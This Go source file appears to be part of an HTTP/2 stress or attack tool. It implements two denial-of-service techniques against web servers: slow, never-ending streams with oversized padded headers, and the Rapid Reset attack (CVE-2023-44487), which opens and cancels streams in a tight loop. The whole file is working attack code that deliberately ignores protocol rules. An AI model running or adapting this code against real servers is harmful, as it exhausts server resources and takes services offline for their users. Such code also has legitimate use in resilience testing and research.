package main

import (
	"bytes"
	"context"
	"net"
	"strings"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// headerBytes is the size of each stream's header: larger than any browser's, below most servers'
// limit.
const headerBytes = 12 << 10

// requestHeader encodes a request in HPACK without its table, so that one block serves all
// connections.
func requestHeader(o options, method string, filler int) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	encoder.SetMaxDynamicTableSize(0)
	for _, f := range []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: o.host}, {Name: ":path", Value: o.path},
		{Name: "x-filler", Value: strings.Repeat("a", filler), Sensitive: true},
	} {
		_ = encoder.WriteField(f) // a bytes.Buffer accepts every write
	}
	return block.Bytes()
}

// frames is one HTTP/2 connection of a client that ignores the protocol: it answers no ping and
// opens no window.
type frames struct {
	*http2.Framer
	next uint32
}

func greet(conn net.Conn) (*frames, error) {
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	f := &frames{http2.NewFramer(conn, nil), 1}
	return f, f.WriteSettings()
}

// open sends a request's header as one frame and as many continuations as it needs.
func (f *frames) open(block []byte, endStream bool) (stream uint32, err error) {
	const most = 16 << 10
	stream = f.next
	f.next += 2
	first := block[:min(most, len(block))]
	err = f.WriteHeaders(http2.HeadersFrameParam{
		StreamID: stream, BlockFragment: first, EndStream: endStream, EndHeaders: len(first) == len(block),
	})
	for sent := len(first); err == nil && sent < len(block); {
		part := block[sent:min(sent+most, len(block))]
		sent += len(part)
		err = f.WriteContinuation(stream, sent == len(block), part)
	}
	return stream, err
}

// unfinishedStreams opens as many streams as it may on each connection, each with a large header
// and a body that never ends.
func unfinishedStreams(ctx context.Context, o options, t *tally) error {
	block := requestHeader(o, "POST", headerBytes)
	workers(o.count, func(int) {
		hold(ctx, o, t, func(conn net.Conn) {
			f, err := greet(conn)
			var refused atomic.Int64
			go discardFrames(conn, &refused)
			for i := 0; err == nil && i < o.streams; i++ {
				if _, err = f.open(block, false); err == nil {
					t.add("streams")
				}
			}
			// Send a byte of a body now and then, as a slow client would.
			for stream := uint32(1); err == nil && rest(ctx, retryPause); stream = (stream + 2) % f.next {
				err = f.WriteData(stream|1, false, []byte("x"))
			}
			t.addN("streams refused", int(refused.Load()))
		})
	})
	return nil
}

// discardFrames reads the server's frames and counts the streams that it refused.
func discardFrames(conn net.Conn, refused *atomic.Int64) {
	f := http2.NewFramer(nil, conn)
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return
		}
		if frame.Header().Type == http2.FrameRSTStream {
			refused.Add(1)
		}
	}
}

// rapidResets opens streams and cancels each at once (CVE-2023-44487).
func rapidResets(ctx context.Context, o options, t *tally) error {
	block := requestHeader(o, "GET", 0)
	workers(o.count, func(int) {
		hold(ctx, o, t, func(conn net.Conn) {
			f, err := greet(conn)
			go discardFrames(conn, new(atomic.Int64))
			for err == nil && ctx.Err() == nil {
				var stream uint32
				if stream, err = f.open(block, true); err == nil {
					err = f.WriteRSTStream(stream, http2.ErrCodeCancel)
					t.add("resets")
				}
			}
		})
	})
	return nil
}
